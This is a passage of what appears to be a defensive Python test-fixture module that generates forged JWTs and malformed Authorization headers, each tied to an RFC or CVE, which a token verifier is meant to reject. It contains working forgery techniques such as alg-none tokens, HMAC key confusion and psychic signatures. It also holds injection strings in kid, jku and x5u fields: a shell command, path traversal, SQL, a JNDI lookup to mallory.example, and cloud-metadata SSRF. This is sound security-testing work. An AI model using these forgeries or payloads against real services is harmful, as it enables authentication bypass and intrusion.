"""Forged tokens, one row an attack: what it is, where it is written down, and how it is made.

A row's ``forge`` is handed a ``Forger`` and returns a token, or the very values of the Authorization headers. Every one
of them must be answered 401 (or what ``status`` says), without a request to anybody and with at most one signature
looked at.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tokenward.testing import ABSENT, Issuer, SigningKey
from tokenward.testing.keys import as_json, b64, b64_int, compact, spare_key, unb64

Forged = str | list[bytes]

ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
SEE_OTHER_KEYS = "https://mallory.example/jwks.json"


@dataclass(frozen=True)
class Attack:
    name: str
    reference: str
    forge: Callable[[Forger], Forged]
    status: int = 401
    asks_issuer: bool = False
    """Names a key nobody has: the issuer's key set, at its configured URL and nowhere else, may be asked for."""
    genuine: bool = False
    """Signed by the right key over what it says: only its contents speak against it."""


class Forger:
    """What an attacker has: the public keys, genuine tokens of their own, and keys of their own."""

    def __init__(self, issuer: Issuer) -> None:
        self.issuer = issuer
        self.keys = {key.alg: key for key in issuer.keys}
        self.ed = self.keys["EdDSA"]
        self.rsa = self.keys["RS256"]
        self.pss = self.keys["PS256"]
        self.ec = self.keys["ES256"]
        self.mallory = spare_key("EdDSA", 99)
        self.mallory_rsa = spare_key("RS256", 99)
        self.mallory_ec = spare_key("ES256", 99)

    @property
    def victim(self) -> dict[str, Any]:
        """What every attacker wants to say."""
        return self.issuer.claims("victim")

    @property
    def now(self) -> int:
        return int(self.issuer.clock())

    def genuine(self, key: SigningKey | None = None, **claims: Any) -> str:
        return self.issuer.token("attacker", key=key or self.ed, **claims)

    def signed(self, claims: Any, header: Any = None, key: SigningKey | None = None) -> str:
        """By the issuer itself, as another of its features or a careless caller might make it sign."""
        key = key or self.ed
        return compact(header or {"alg": key.alg, "kid": key.kid}, claims, key.sign)

    def says(self, **claims: Any) -> str:
        return self.signed({k: v for k, v in {**self.victim, **claims}.items() if v is not ABSENT})

    def heads(self, **header: Any) -> str:
        merged = {"alg": "EdDSA", "kid": self.ed.kid, **header}
        return self.signed(self.victim, {k: v for k, v in merged.items() if v is not ABSENT})

    def hmac(self, secret: bytes, key: SigningKey, alg: str = "HS256", **header: Any) -> str:
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}.get(alg, hashlib.sha256)
        head = {"alg": alg, "kid": key.kid, **header}
        return compact(head, self.victim, lambda signed: hmac.new(secret, signed, digest).digest())

    def unsigned(self, alg: Any, signature: bytes = b"", **header: Any) -> str:
        return compact({"alg": alg, "kid": self.ed.kid, **header}, self.victim, lambda _: signature)

    def by(self, key: SigningKey, alg: str | None = None, **header: Any) -> str:
        """Signed by that key under a header of the attacker's choice."""
        head = {k: v for k, v in {"alg": alg or key.alg, "kid": key.kid, **header}.items() if v is not ABSENT}
        return compact(head, self.victim, lambda signed: key.sign(signed, alg if alg in _RSA else None))

    def with_signature(self, change: Callable[[bytes], bytes], key: SigningKey) -> str:
        """A genuine token with another signature."""
        head, body, signature = self.genuine(key).split(".")
        return f"{head}.{body}.{b64(change(unb64(signature)))}"

    def raw(self, header: bytes | None = None, claims: bytes | None = None) -> str:
        """The very bytes, signed by the issuer's key."""
        head = header if header is not None else as_json({"alg": "EdDSA", "kid": self.ed.kid})
        return compact(head, claims if claims is not None else self.victim, self.ed.sign)

    def claims_text(self, text: str) -> str:
        """JSON text in which … stands for the usual claims."""
        usual = json.dumps(self.victim)[1:-1]
        return self.raw(claims=text.replace("…", usual).encode("utf-8", "surrogatepass"))

    def header_text(self, text: str) -> str:
        usual = json.dumps({"alg": "EdDSA", "kid": self.ed.kid})[1:-1]
        return self.raw(header=text.replace("…", usual).encode("utf-8", "surrogatepass"))


_RSA = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")
_PEM, _DER, _RAW = Encoding.PEM, Encoding.DER, Encoding.Raw
_SPKI, _PKCS1, _RAW_PUBLIC = PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1, PublicFormat.Raw


def _none() -> list[Attack]:
    rows = [
        Attack(
            f"alg {spelling!r} and no signature", "RFC 8725 §2.1, CVE-2018-1000531", lambda f, s=spelling: f.unsigned(s)
        )
        for spelling in (
            "none",
            "None",
            "NONE",
            "nOnE",
            "noNe",
            "none ",
            " none",
            "none\0",
            "nonE\n",
            "ｎｏｎｅ",
            "null",
            "",
        )
    ]
    rows += [
        Attack("alg none keeping a genuine signature", "CVE-2022-23540",
               lambda f: f.unsigned("none", unb64(f.genuine().split(".")[2]))),
        Attack("alg none with one byte of signature", "RFC 7518 §3.6", lambda f: f.unsigned("none", b"\0")),
        Attack("alg none without a kid", "RFC 7518 §3.6", lambda f: compact({"alg": "none"}, f.victim, lambda _: b"")),
        Attack("alg none and typ JWT", "RFC 8725 §3.1", lambda f: f.unsigned("none", b"\0", typ="JWT")),
        Attack("alg missing", "RFC 7515 §4.1.1", lambda f: f.heads(alg=ABSENT), genuine=True),
        Attack("alg null", "RFC 7515 §4.1.1", lambda f: f.heads(alg=None), genuine=True),
        Attack("alg a number", "RFC 7515 §4.1.1", lambda f: f.heads(alg=0), genuine=True),
        Attack("alg a boolean", "RFC 7515 §4.1.1", lambda f: f.heads(alg=True), genuine=True),
        Attack("alg a list", "RFC 7515 §4.1.1", lambda f: f.heads(alg=["EdDSA"]), genuine=True),
        Attack("alg an object", "RFC 7515 §4.1.1", lambda f: f.heads(alg={"EdDSA": 1}), genuine=True),
        Attack("alg in lower case", "RFC 7515 §4.1.1", lambda f: f.heads(alg="eddsa"), genuine=True),
        Attack("alg Ed448 over an Ed25519 key", "RFC 9864 §2.2", lambda f: f.heads(alg="Ed448"), genuine=True),
        Attack("an algorithm nobody knows", "RFC 7515 §4.1.1", lambda f: f.heads(alg="XS999"), genuine=True),
    ]  # fmt: skip
    return rows


def _hmac() -> list[Attack]:
    def public(key: SigningKey, how: str) -> bytes:
        if how == "PEM":
            return key.public_bytes(_PEM, _SPKI)
        if how == "PEM without its line end":
            return key.public_bytes(_PEM, _SPKI).rstrip()
        if how == "PEM with CRLF":
            return key.public_bytes(_PEM, _SPKI).replace(b"\n", b"\r\n")
        if how == "DER":
            return key.public_bytes(_DER, _SPKI)
        if how == "PKCS#1 PEM":
            return key.public_bytes(_PEM, _PKCS1)
        if how == "PKCS#1 DER":
            return key.public_bytes(_DER, _PKCS1)
        if how == "JWK":
            return as_json(key.jwk())
        if how == "JWK set":
            return as_json({"keys": [key.jwk()]})
        if how == "x of the JWK":
            return str(key.jwk()["x"]).encode()
        if how == "the raw x":
            return unb64(str(key.jwk()["x"]))
        if how == "n of the JWK":
            return str(key.jwk()["n"]).encode()
        if how == "the raw n":
            return unb64(str(key.jwk()["n"]))
        raise AssertionError(how)

    kinds = {
        "rsa": ["PEM", "PEM without its line end", "PEM with CRLF", "DER", "PKCS#1 PEM", "PKCS#1 DER", "JWK", "JWK set",
                "n of the JWK", "the raw n"],
        "ed": ["PEM", "DER", "JWK", "JWK set", "x of the JWK", "the raw x"],
        "ec": ["PEM", "DER", "JWK", "x of the JWK"],
    }  # fmt: skip
    rows = [
        Attack(f"HMAC with the {kind} public key as {how}", "RFC 8725 §2.1, CVE-2015-9235, CVE-2016-10555",
               lambda f, k=kind, h=how: f.hmac(public(getattr(f, k), h), getattr(f, k)))
        for kind, ways in kinds.items() for how in ways
    ]  # fmt: skip
    rows += [
        Attack(f"{alg} with the rsa public key as PEM", "RFC 8725 §2.1, CVE-2022-29217",
               lambda f, a=alg: f.hmac(public(f.rsa, "PEM"), f.rsa, a)) for alg in ("HS384", "HS512", "hs256")
    ]  # fmt: skip
    rows += [
        Attack(f"HMAC with {name}", "RFC 8725 §2.3", lambda f, s=secret: f.hmac(s, f.ed))
        for name, secret in (("an empty secret", b""), ("a NUL", b"\0"), ("'secret'", b"secret"), ("the kid", b"kid"))
    ]
    rows += [
        Attack(f"HMAC with the public key, but alg says {alg}", "RFC 8725 §2.1",
               lambda f, a=alg: f.hmac(public(f.ed, "the raw x"), f.ed, a)) for alg in ("EdDSA", "RS256", "ES256")
    ]  # fmt: skip
    rows += [
        Attack("HMAC under a kid that names a file of zeros", "CWE-73",
               lambda f: f.hmac(b"", f.ed, kid="../../../../dev/null")),
    ]  # fmt: skip
    return rows


def _families() -> list[Attack]:
    rows = [
        Attack(f"the {key} key, signing as {alg}", "RFC 8725 §3.1, RFC 7517 §4.4",
               lambda f, k=key, a=alg: f.by(f.keys[k], a))
        for key in ("RS256", "PS256") for alg in _RSA if alg != key
    ]  # fmt: skip
    rows += [
        Attack("an ES256 signature under alg ES384", "RFC 7518 §3.4", lambda f: f.by(f.ec, "ES384")),
        Attack("an ES256 signature under alg EdDSA", "RFC 8725 §3.1", lambda f: f.by(f.ec, "EdDSA")),
        Attack("an Ed25519 signature under alg ES256", "RFC 8725 §3.1", lambda f: f.by(f.ed, "ES256")),
        Attack("an Ed25519 signature under the RSA key's kid", "RFC 8725 §3.1", lambda f: f.by(f.ed, kid=f.rsa.kid)),
        Attack("an RSA signature under the Ed25519 key's kid", "RFC 8725 §3.1", lambda f: f.by(f.rsa, kid=f.ed.kid)),
        Attack("an ES256 signature in DER", "RFC 7518 §3.4", lambda f: compact(
            {"alg": "ES256", "kid": f.ec.kid}, f.victim, lambda s: _der(f.ec.sign(s)))),
        Attack("signed by somebody else's Ed25519 key", "RFC 7515 §5.2", lambda f: f.by(f.mallory, kid=f.ed.kid)),
        Attack("signed by somebody else's RSA key", "RFC 7515 §5.2", lambda f: f.by(f.mallory_rsa, kid=f.rsa.kid)),
        Attack("signed by somebody else's P-256 key", "RFC 7515 §5.2", lambda f: f.by(f.mallory_ec, kid=f.ec.kid)),
    ]  # fmt: skip
    return rows


def _der(raw: bytes) -> bytes:
    def integer(part: bytes) -> bytes:
        part = part.lstrip(b"\0") or b"\0"
        part = b"\0" + part if part[0] & 0x80 else part
        return b"\2" + bytes([len(part)]) + part

    body = integer(raw[:32]) + integer(raw[32:])
    return b"\x30" + bytes([len(body)]) + body


def _brought_along() -> list[Attack]:
    jwk = {"jwk": lambda f: f.mallory.jwk()}
    rows = [
        Attack("its own key in jwk", "CVE-2018-0114, RFC 8725 §3.5",
               lambda f: f.by(f.mallory, kid=f.ed.kid, jwk=jwk["jwk"](f))),
        Attack("its own key in jwk under its own kid", "CVE-2018-0114",
               lambda f: f.by(f.mallory, jwk=f.mallory.jwk()), asks_issuer=True),
        Attack("its own private key in jwk", "RFC 7515 §4.1.3",
               lambda f: f.by(f.mallory, kid=f.ed.kid, jwk={**f.mallory.jwk(), "d": "AAAA"})),
        Attack("a symmetric key in jwk", "RFC 7515 §4.1.3", lambda f: f.hmac(
            b"k" * 32, f.ed, jwk={"kty": "oct", "k": b64(b"k" * 32)})),
        Attack("jku", "RFC 8725 §3.10, RFC 7515 §4.1.2", lambda f: f.by(f.mallory, kid=f.ed.kid, jku=SEE_OTHER_KEYS)),
        Attack("jku with the issuer's host as user name", "RFC 8725 §3.10", lambda f: f.by(
            f.mallory, kid=f.ed.kid, jku="http://localhost:3000@mallory.example/")),
        Attack("jku as a file", "RFC 8725 §3.10", lambda f: f.by(f.mallory, kid=f.ed.kid, jku="file:///etc/passwd")),
        Attack("jku at the cloud's metadata service", "RFC 8725 §3.10, CWE-918", lambda f: f.by(
            f.mallory, kid=f.ed.kid, jku="http://169.254.169.254/latest/meta-data/")),
        Attack("x5u", "RFC 8725 §3.10", lambda f: f.by(
            f.mallory, kid=f.ed.kid, x5u="https://mallory.example/cert.pem")),
        Attack("x5c", "RFC 7515 §4.1.6", lambda f: f.by(
            f.mallory_rsa, kid=f.rsa.kid, x5c=[base64.b64encode(f.mallory_rsa.public_bytes(_DER, _SPKI)).decode()])),
        Attack("x5t", "RFC 7515 §4.1.7", lambda f: f.by(f.mallory, kid=f.ed.kid, x5t=b64(b"\1" * 20))),
        Attack("epk, apu and apv", "RFC 7518 §4.6", lambda f: f.by(
            f.mallory, kid=f.ed.kid, epk=f.mallory.jwk(), apu="QQ", apv="Qg")),
        Attack("a PBES2 count of two thousand million", "CVE-2022-36083", lambda f: f.by(
            f.mallory, "PBES2-HS256+A128KW", kid=f.ed.kid, p2s="AAAA", p2c=2**31)),
    ]  # fmt: skip
    return rows


def _kids() -> list[Attack]:
    unknown = {
        "path traversal": "../../../../etc/passwd",
        "SQL": "x' UNION SELECT 'a' -- ",
        "a command": "key|/usr/bin/touch${IFS}/tmp/pwned",
        "a template": "{{7*7}}${7*7}",
        "a URL": SEE_OTHER_KEYS,
        "LDAP": "*)(uid=*))(|(uid=*",
        "the right kid and a space": "{kid} ",
        "the right kid in another case": "{upper}",
        "a homoglyph": "\u0430{kid}",
        "256 characters": "k" * 256,
        "JNDI": "${jndi:ldap://mallory.example/x}",
    }
    rows = [
        Attack(f"kid with {name}", "RFC 8725 §3.10, CWE-20",
               lambda f, k=kid: f.by(f.mallory, kid=k.format(kid=f.ed.kid, upper=f.ed.kid.swapcase())
                                     if "{kid}" in k or "{upper}" in k else k), asks_issuer=True)
        for name, kid in unknown.items()
    ]  # fmt: skip
    bad: dict[str, Any] = {
        "missing": ABSENT, "null": None, "empty": "", "a number": 1, "a boolean": True, "a list": ["k"],
        "an object": {"k": 1}, "257 characters": "k" * 257, "4,000 characters": "k" * 4000, "a NUL": "k\0",
        "a line break": "k\nX-Admin: 1", "an escape sequence": "\x1b[2J", "half a surrogate": "\ud800",
        "a zero-width space": "k\u200b", "a right-to-left override": "\u202ek",
    }  # fmt: skip
    rows += [
        Attack(f"kid is {name}, genuinely signed", "RFC 7515 §4.1.4",
               lambda f, k=kid: f.signed(f.victim, json.dumps(
                   {n: v for n, v in {"alg": "EdDSA", "kid": k}.items() if v is not ABSENT}).encode()), genuine=True)
        for name, kid in bad.items()
    ]  # fmt: skip
    rows.append(Attack("kid of another key of the set", "RFC 8725 §3.1", lambda f: f.by(f.ed, kid=f.ec.kid)))
    return rows


def _signatures() -> list[Attack]:
    def rsa_plus_n(f: Forger, signature: bytes) -> bytes:
        n = f.rsa.private.public_key().public_numbers().n  # type: ignore[union-attr]  # an RSA key
        return (int.from_bytes(signature, "big") + n).to_bytes(len(signature) + 1, "big")

    def ed_plus_order(signature: bytes) -> bytes:
        s = int.from_bytes(signature[32:], "little") + ED25519_ORDER
        return signature[:32] + s.to_bytes(32, "little")

    rows = [
        Attack("a psychic signature: r and s are 0", "CVE-2022-21449", lambda f: f.with_signature(
            lambda s: bytes(64), f.ec)),
        Attack("a psychic signature: s is 0", "CVE-2022-21449", lambda f: f.with_signature(
            lambda s: s[:32] + bytes(32), f.ec)),
        Attack("a psychic signature: r is 0", "CVE-2022-21449", lambda f: f.with_signature(
            lambda s: bytes(32) + s[32:], f.ec)),
        Attack("a psychic signature: r and s are the order", "CVE-2022-21449", lambda f: f.with_signature(
            lambda s: P256_ORDER.to_bytes(32, "big") * 2, f.ec)),
        Attack("ES256: r and s are 1", "FIPS 186-5 §6.4.2", lambda f: f.with_signature(
            lambda s: (1).to_bytes(32, "big") * 2, f.ec)),
        Attack("ES256: halves swapped", "RFC 7518 §3.4", lambda f: f.with_signature(lambda s: s[32:] + s[:32], f.ec)),
        Attack("ES256: 63 bytes", "RFC 7518 §3.4", lambda f: f.with_signature(lambda s: s[:-1], f.ec)),
        Attack("ES256: padded to 66 bytes", "RFC 7518 §3.4", lambda f: f.with_signature(
            lambda s: b"\0" + s[:32] + b"\0" + s[32:], f.ec)),
        Attack("Ed25519: malleable, S + L", "RFC 8032 §8.4, CVE-2020-36843", lambda f: f.with_signature(
            ed_plus_order, f.ed)),
        Attack("Ed25519: S is 0", "RFC 8032 §5.1.7", lambda f: f.with_signature(lambda s: s[:32] + bytes(32), f.ed)),
        Attack("Ed25519: R of order 4 and S of 0", "RFC 8032 §5.1.7", lambda f: f.with_signature(
            lambda s: bytes(64), f.ed)),
        Attack("Ed25519: R the neutral point", "RFC 8032 §5.1.7", lambda f: f.with_signature(
            lambda s: b"\1" + bytes(31) + s[32:], f.ed)),
        Attack("Ed25519: R's sign flipped", "RFC 8032 §5.1.7", lambda f: f.with_signature(
            lambda s: s[:31] + bytes([s[31] ^ 0x80]) + s[32:], f.ed)),
        Attack("Ed25519: 63 bytes", "RFC 8037 §3.1", lambda f: f.with_signature(lambda s: s[:-1], f.ed)),
        Attack("Ed25519: 65 bytes", "RFC 8037 §3.1", lambda f: f.with_signature(lambda s: s + b"\0", f.ed)),
        Attack("Ed25519: twice", "RFC 8037 §3.1", lambda f: f.with_signature(lambda s: s * 2, f.ed)),
        Attack("Ed25519 over other bytes (ph)", "RFC 8032 §5.1", lambda f: compact(
            {"alg": "EdDSA", "kid": f.ed.kid}, f.victim, lambda s: f.ed.sign(hashlib.sha512(s).digest()))),
        Attack("RSA: the signature plus the modulus", "RFC 8017 §8.2.2", lambda f: f.with_signature(
            lambda s: rsa_plus_n(f, s), f.rsa)),
        Attack("RSA: a leading zero", "RFC 8017 §8.2.2", lambda f: f.with_signature(lambda s: b"\0" + s, f.rsa)),
        Attack("RSA: one byte short", "RFC 8017 §8.2.2", lambda f: f.with_signature(lambda s: s[1:], f.rsa)),
        Attack("RSA: 0", "RFC 8017 §8.2.2", lambda f: f.with_signature(lambda s: bytes(len(s)), f.rsa)),
        Attack("RSA: 1", "RFC 8017 §8.2.2", lambda f: f.with_signature(lambda s: bytes(len(s) - 1) + b"\1", f.rsa)),
        Attack("RSA: SHA-1 inside RS256", "RFC 8017 §8.2.2", lambda f: _rsa_sha1(f)),
        Attack("RSA: Bleichenbacher's shape for e = 3", "CVE-2006-4339", lambda f: f.with_signature(
            lambda s: _cube_root(int.from_bytes(b"\0\1\xff\0" + bytes(252), "big")).to_bytes(256, "big"), f.rsa)),
        Attack("RSA-PSS: salt of another length", "RFC 7518 §3.5", lambda f: _pss(f, 20)),
        Attack("RSA-PSS: no salt", "RFC 7518 §3.5", lambda f: _pss(f, 0)),
        Attack("an empty signature", "RFC 7515 §5.2", lambda f: f.genuine().rsplit(".", 1)[0] + "."),
        Attack("no signature and no dot", "RFC 7515 §7.1", lambda f: f.genuine().rsplit(".", 1)[0]),
        Attack("the signature of another token", "RFC 7515 §5.2", lambda f: f.says().rsplit(".", 1)[0] + "." +
               f.genuine().rsplit(".", 1)[1]),
        Attack("the header of another token", "RFC 7515 §5.2", lambda f: f.heads(x=1).split(".", 1)[0] + "." +
               f.says().split(".", 1)[1]),
        Attack("another subject under a genuine signature", "RFC 7515 §5.2", lambda f: ".".join(
            [f.genuine().split(".")[0], b64(as_json(f.victim)), f.genuine().split(".")[2]])),
    ]  # fmt: skip
    return rows


def _cube_root(number: int) -> int:
    low, high = 0, 1 << (number.bit_length() // 3 + 1)
    while low < high:
        middle = (low + high + 1) // 2
        low, high = (middle, high) if middle**3 <= number else (low, middle - 1)
    return low


def _rsa_sha1(f: Forger) -> str:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    private: Any = f.rsa.private
    return compact({"alg": "RS256", "kid": f.rsa.kid}, f.victim,
                   lambda s: private.sign(s, padding.PKCS1v15(), hashes.SHA1()))  # noqa: S303 - the attack  # fmt: skip


def _pss(f: Forger, salt: int) -> str:
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    private: Any = f.pss.private
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), salt)
    return compact({"alg": "PS256", "kid": f.pss.kid}, f.victim, lambda s: private.sign(s, pss, hashes.SHA256()))


def _shapes() -> list[Attack]:
    def parts(f: Forger) -> list[str]:
        return f.genuine().split(".")

    def json_flat(f: Forger) -> str:
        head, body, signature = parts(f)
        return json.dumps({"protected": head, "payload": body, "signature": signature}, separators=(",", ":"))

    def json_general(f: Forger) -> str:
        head, body, signature = parts(f)
        both = {"payload": body, "signatures": [{"protected": head, "signature": signature}]}
        return json.dumps(both, separators=(",", ":"))

    def jwe(alg: str, enc: str = "A256GCM") -> Callable[[Forger], str]:
        head = {"alg": alg, "enc": enc, "kid": "kid"}
        return lambda f: ".".join([b64(as_json(head)), b64(b"key"), b64(b"iv" * 6),
                                   b64(b"text"), b64(b"tag" * 5)])  # fmt: skip

    def last_bits(f: Forger) -> str:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        token = f.genuine()
        return token[:-1] + alphabet[alphabet.index(token[-1]) ^ 1]

    shapes: dict[str, tuple[str, Callable[[Forger], str]]] = {
        "JWE, RSA-OAEP": ("RFC 7516 §7.1, RFC 8725 §2.5", jwe("RSA-OAEP")),
        "JWE, dir": ("RFC 7516 §7.1, CVE-2022-3102", jwe("dir")),
        "JWE with a JWS inside": ("RFC 7519 §5.2", lambda f: ".".join(
            [b64(as_json({"alg": "dir", "enc": "A256GCM", "cty": "JWT"})), "", b64(b"iv" * 6), b64(f.says().encode()),
             b64(b"tag" * 5)])),
        "JSON serialisation, flattened": ("RFC 7515 §7.2.2, CVE-2022-3102", json_flat),
        "JSON serialisation, general": ("RFC 7515 §7.2.1, CVE-2022-39227", json_general),
        "a JSON object around the compact form": ("CVE-2022-39227", lambda f: '{"' + f.genuine() + '":""}'),
        "one segment": ("RFC 7515 §7.1", lambda f: parts(f)[1]),
        "two segments": ("RFC 7515 §7.1", lambda f: ".".join(parts(f)[:2])),
        "four segments": ("RFC 7515 §7.1", lambda f: f.genuine() + "." + parts(f)[2]),
        "six segments": ("RFC 7515 §7.1", lambda f: ".".join(parts(f) * 2)),
        "only dots": ("RFC 7515 §7.1", lambda f: ".."),
        "thousands of dots": ("CVE-2025-27144, CVE-2025-30204", lambda f: "." * 8000),
        "thousands of dots behind a header": ("CVE-2025-27144", lambda f: parts(f)[0] + "." * 7000),
        "thousands of short segments": ("CVE-2025-30204", lambda f: "A." * 4000),
        "more than 8 KiB": ("RFC 8725 §3.9", lambda f: f.says(pad="x" * 8000)),
        "48 KiB of header": ("RFC 8725 §3.9", lambda f: f.heads(pad="x" * 36_000)),
        "a signature of 6 KiB": ("RFC 8725 §3.9", lambda f: f.with_signature(lambda s: s * 90, f.ed)),
        "padding on the signature": ("RFC 7515 §2", lambda f: f.genuine() + "=="),
        "padding on the header": ("RFC 7515 §2", lambda f: parts(f)[0] + "=." + ".".join(parts(f)[1:])),
        "stray bits in the last character": ("RFC 4648 §3.5", last_bits),
        "standard base64": ("RFC 7515 §2", lambda f: ".".join(
            base64.b64encode(unb64(p)).decode().rstrip("=") for p in parts(f)) + "+/"),
        "a line break inside": ("RFC 7515 §2", lambda f: f.genuine()[:40] + "\n" + f.genuine()[40:]),
        "a space inside": ("RFC 7515 §2", lambda f: f.genuine()[:40] + " " + f.genuine()[40:]),
        "a NUL at the end": ("CWE-158", lambda f: f.genuine() + "\0"),
        "URL-encoded dots": ("RFC 6750 §2.1", lambda f: f.genuine().replace(".", "%2E")),
        "two tokens in a row": ("RFC 6750 §2.1", lambda f: f.genuine() + "," + f.genuine()),
        "in quotes": ("RFC 6750 §2.1", lambda f: f'"{f.genuine()}"'),
        "in angle brackets": ("RFC 6750 §2.1", lambda f: f"<{f.genuine()}>"),
        "Bearer twice": ("RFC 6750 §2.1", lambda f: "Bearer " + f.genuine()),
        "an SD-JWT tail": ("RFC 9901 §4", lambda f: f.genuine() + "~WyJhIl0~"),
        "an empty payload": ("RFC 7515 Appendix F", lambda f: f"{parts(f)[0]}..{parts(f)[2]}"),
        "a detached payload, genuinely signed": ("RFC 7515 Appendix F", lambda f: (
            lambda p: f"{p[0]}..{p[2]}")(f.says().split("."))),
    }  # fmt: skip
    return [Attack(name, reference, forge) for name, (reference, forge) in shapes.items()] + [
        Attack("a session id that is no JWT", "RFC 6750 §2.1", lambda f: "WyF1m2kxhJc0vP8s.Xs1cW0tP"),
        Attack("bytes that are not ASCII", "RFC 9110 §5.5", lambda f: [b"Bearer " + f.genuine().encode() + b"\xe9"]),
        Attack("two Authorization headers, both genuine", "RFC 9110 §5.3, RFC 6750 §3.1",
               lambda f: [b"Bearer " + f.genuine().encode()] * 2, status=400),
        Attack("two Authorization headers, genuine and empty", "RFC 9110 §5.3, RFC 6750 §3.1",
               lambda f: [b"Bearer " + f.genuine().encode(), b""], status=400),
        Attack("another scheme", "RFC 9110 §11.6.2", lambda f: [b"Basic " + f.genuine().encode()]),
        Attack("DPoP instead of Bearer", "RFC 9449 §7.1", lambda f: [b"DPoP " + f.genuine().encode()]),
    ]  # fmt: skip


def _json() -> list[Attack]:
    texts = {
        "sub twice": ("RFC 7519 §4, RFC 8725 §2.4", '{…, "sub": "victim"}'),
        "sub twice, once escaped": ("RFC 7519 §4", '{…, "s\\u0075b": "victim"}'),
        "aud twice": ("RFC 7519 §4", '{"aud": "x", …}'),
        "a duplicate deep inside": ("RFC 8259 §4", '{…, "a": {"b": [{"c": 1, "c": 2}]}}'),
        "NaN": ("RFC 8259 §6", '{…, "x": NaN}'),
        "Infinity as a date": ("RFC 8259 §6", '{…, "x": [Infinity]}'),
        "a BOM": ("RFC 8259 §8.1", "\ufeff{…}"),
        "half a surrogate as bytes": ("RFC 3629 §3", '{…, "x": "\ud800"}'),
        "4,000 levels": ("RFC 8259 §9, CWE-674", '{…, "x": ' + "[" * 2400 + "]" * 2400 + "}"),
        "17 levels": ("RFC 8259 §9", '{…, "x": ' + '{"a":' * 16 + "1" + "}" * 17),
        "an array": ("RFC 7519 §7.2", "[{…}]"),
        "a string": ("RFC 7519 §7.2", '"victim"'),
        "null": ("RFC 7519 §7.2", "null"),
        "something behind the object": ("RFC 8259 §2", "{…}{}"),
        "a trailing comma": ("RFC 8259 §4", "{…,}"),
        "a raw control character": ("RFC 8259 §7", '{…, "x": "\x01"}'),
        "a number of 4,999 digits": ("CVE-2020-10735", '{…, "x": ' + "9" * 4999 + "}"),
        "a JSONP wrapper": ("RFC 8259 §2", "cb({…})"),
        "nothing": ("RFC 7519 §7.2", "{}"),
    }
    rows = [
        Attack(f"claims: {name}", reference, lambda f, t=text: f.claims_text(t), genuine=True)
        for name, (reference, text) in texts.items()
    ]
    heads = {
        "alg twice": ("RFC 7515 §4, RFC 8725 §2.4", '{…, "alg": "none"}'),
        "kid twice": ("RFC 7515 §4", '{"kid": "x", …}'),
        "a BOM": ("RFC 8259 §8.1", "\ufeff{…}"),
        "2,400 levels": ("RFC 8259 §9", '{…, "x": ' + "[" * 2400 + "]" * 2400 + "}"),
        "an array": ("RFC 7515 §4", "[{…}]"),
        "NaN": ("RFC 8259 §6", '{…, "x": NaN}'),
        "nothing": ("RFC 7515 §4.1.1", "{}"),
    }
    rows += [
        Attack(f"header: {name}", reference, lambda f, t=text: f.header_text(t), genuine=True)
        for name, (reference, text) in heads.items()
    ]
    rows += [
        Attack(f"claims in {encoding}", "RFC 8725 §3.7, RFC 8259 §8.1",
               lambda f, e=encoding: f.raw(claims=json.dumps(f.victim).encode(e)), genuine=True)
        for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig")
    ]  # fmt: skip
    rows += [
        Attack(f"header in {encoding}", "RFC 8725 §3.7", lambda f, e=encoding: f.raw(
            header=json.dumps({"alg": "EdDSA", "kid": f.ed.kid}).encode(e)), genuine=True)
        for encoding in ("utf-16", "utf-16-be", "utf-8-sig")
    ]  # fmt: skip
    rows.append(Attack("claims with an overlong UTF-8 slash", "RFC 3629 §10", lambda f: f.raw(
        claims=json.dumps(f.victim)[:-1].encode() + b', "x": "\xc0\xaf"}'), genuine=True))  # fmt: skip
    return rows


def _headers() -> list[Attack]:
    deflated = zlib.compress(b'{"sub":"victim"}' * 100)[2:-4]
    rows = [
        Attack("zip: DEF", "RFC 8725 §3.6, CVE-2024-28176, CVE-2024-33664", lambda f: compact(
            {"alg": "EdDSA", "kid": f.ed.kid, "zip": "DEF"}, deflated, f.ed.sign), genuine=True),
        Attack("zip: DEF over plain claims", "RFC 8725 §3.6", lambda f: f.heads(zip="DEF"), genuine=True),
        Attack("enc in a JWS", "RFC 7516 §4.1.2", lambda f: f.heads(enc="A256GCM"), genuine=True),
        Attack("b64: false", "RFC 7797 §7", lambda f: f.heads(b64=False, crit=["b64"]), genuine=True),
        Attack("b64: false, not in crit", "RFC 7797 §6", lambda f: f.heads(b64=False), genuine=True),
        Attack("b64: true", "RFC 7797 §7", lambda f: f.heads(b64=True, crit=["b64"]), genuine=True),
        Attack("b64: false over unencoded claims", "RFC 7797 §5.2", lambda f: _unencoded(f)),
        Attack("a nested JWT", "RFC 7519 §5.2", lambda f: compact(
            {"alg": "EdDSA", "kid": f.ed.kid, "cty": "JWT"}, f.says().encode(), f.ed.sign), genuine=True),
        Attack("a nested JWT without cty", "RFC 7519 §5.2", lambda f: compact(
            {"alg": "EdDSA", "kid": f.ed.kid}, f.says().encode(), f.ed.sign), genuine=True),
        Attack("cty over ordinary claims", "RFC 7519 §5.2", lambda f: f.heads(cty="JWT"), genuine=True),
    ]  # fmt: skip
    crits: dict[str, Any] = {
        "empty": [], "null": None, "a string": "exp", "an object": {"exp": 1}, "a number": 1, "false": False,
        "an extension nobody has": ["http://example.com/UNDEFINED"], "a registered member": ["alg"],
        "a member that is there": ["kid"], "exp": ["exp"], "twice the same": ["exp", "exp"],
        "a list of lists": [["exp"]],
        "itself": ["crit"], "a number inside": [1],
    }  # fmt: skip
    rows += [
        Attack(f"crit: {name}", "RFC 7515 §4.1.11, CVE-2025-59420, CVE-2026-32597",
               lambda f, c=crit: f.heads(crit=c, exp=1), genuine=True)
        for name, crit in crits.items()
